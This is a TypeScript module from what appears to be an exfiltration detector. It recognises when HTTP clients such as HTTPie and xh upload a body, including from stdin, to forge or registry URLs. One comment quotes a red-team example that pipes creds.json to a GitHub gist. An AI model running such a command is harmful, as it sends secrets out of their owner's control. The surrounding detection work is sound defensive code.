/**
 * Whether a generic HTTP client's argv says it sends a body (an upload flag, a writing method word, data items),
 * before its URL is looked at (./upload-urls.ts). Interpreted for ./recognize.ts.
 */
import { hasFlag, type ParsedArgv } from './argv.js';
import { isReportingUpload } from './reporting-calls.js';
import type { UploadMatcher } from './types.js';
import { firstUploadUrl } from './upload-urls.js';

/** Data items (`k=v`, `f@file`), or a whole body read from a file (`@file`: HTTPie sends it, as a POST). */
const DATA_ITEM = /^(?:[^:=@/][^=@]*(?::?=|@)|@.)/;

/** What a push whose body can only be its stdin adds to its recognition (PushRecognition.stdinBodyOnly). */
export const STDIN_BODY_ONLY = { stdin: true, stdinBodyOnly: true } as const;
/** What a call that only reports back adds to its recognition (PushRecognition.reportsOnly). */
export const REPORTS_ONLY = { reportsOnly: true } as const;

/**
 * The upload a generic client's argv makes: its body's source and the forge or registry URL it goes to; null when
 * it sends no body or sends to none. One that only reports back with a short inline body (./reporting-calls.ts) says
 * so: it is a push only past its container's bound of such calls (../correlate/report-bound.ts).
 */
export function uploadRequest(
  m: UploadMatcher,
  parsed: ParsedArgv,
  words: readonly string[],
  isUploadTarget: (host: string, path: string) => boolean,
): {
  url: { word: string; host: string | null };
  marks: { stdin?: true; stdinBodyOnly?: true; reportsOnly?: true };
} | null {
  const body = sendsBody(m, parsed);
  const url = body === null ? null : firstUploadUrl(parsed, isUploadTarget, m);
  if (body === null || url === null) return null;
  const reports = isReportingUpload(m, parsed, words, isUploadTarget) ? REPORTS_ONLY : {};
  return { url, marks: { ...(body === 'stdin' ? STDIN_BODY_ONLY : {}), ...reports } };
}

/** Where its body comes from: argv (flags, a method word, data items), only stdin, or nowhere (null). */
export function sendsBody(m: UploadMatcher, parsed: ParsedArgv): 'argv' | 'stdin' | null {
  // A client's request command (`az rest`): its other commands send no such request.
  if (m.words?.some((w, i) => parsed.positionals[i] !== w)) return null;
  if (m.uploadFlags.some((req) => hasFlag(parsed, req))) return 'argv';
  if (m.methodWords === undefined) return null;
  if (parsed.positionals.some((p) => m.methodWords!.includes(p.toUpperCase()) || DATA_ITEM.test(p))) return 'argv';
  return m.stdinBody !== undefined && stdinBodyPossible(m.stdinBody, parsed) ? 'stdin' : null;
}

/**
 * HTTPie and xh read a body from stdin whenever it is not a terminal, and then POST (red-team review: `https
 * api.github.com/gists < creds.json` raised nothing, its argv a GET's shape). The sensors do not show stdin, so
 * a request naming no method at all and no data is taken for one, unless told to ignore stdin: in a pod stdin is
 * no terminal, and such a request does POST, an empty body too (httpie/cli#1017, #1551: `docker run httpie https
 * pie.dev/get` got 405), so scripts pass `--ignore-stdin` or say `GET` for a read. An empty stdin (`/dev/null`, a
 * pod's, xh#422) sends an empty POST, no data: such a push is one only once its stdin was seen to carry a file
 * (../correlate/stdin-fed.ts; found by a false-positive review, a CI job's bare GET of a release was `high`).
 */
function stdinBodyPossible(s: NonNullable<UploadMatcher['stdinBody']>, parsed: ParsedArgv): boolean {
  if (parsed.flags.some((f) => s.unlessFlags.includes(f.flag))) return false;
  return !parsed.positionals.some((p) => s.readMethods.includes(p.toUpperCase()));
}
